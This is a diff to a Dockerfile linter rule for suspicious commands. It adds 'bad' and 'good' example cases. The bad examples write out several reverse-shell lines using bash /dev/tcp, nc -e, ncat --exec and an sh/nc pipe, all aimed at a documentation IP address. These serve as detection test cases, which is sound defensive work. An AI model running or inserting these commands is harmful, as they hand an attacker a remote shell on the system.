@@ -57,6 +57,8 @@ export const suspiciousCommand = defineRule({
 		"https://attack.mitre.org/techniques/T1496/",
 	],
 	examples: [
+		{ caption: "A shell for somebody else", bad: "FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\n" },
+		{ caption: "Decoded into a file", good: "FROM debian:12\nRUN echo aGkK | base64 -d > /greeting\n" },
 		{
 			caption: "Shells for others",
 			bad: 'FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\nRUN «nc» -e /bin/sh 203.0.113.5 4444\nCMD sh -c "«ncat» 203.0.113.5 4444 --exec /bin/bash"\nRUN cat /f | «sh» -i 2>&1 | nc 203.0.113.5 80 > /f\n',
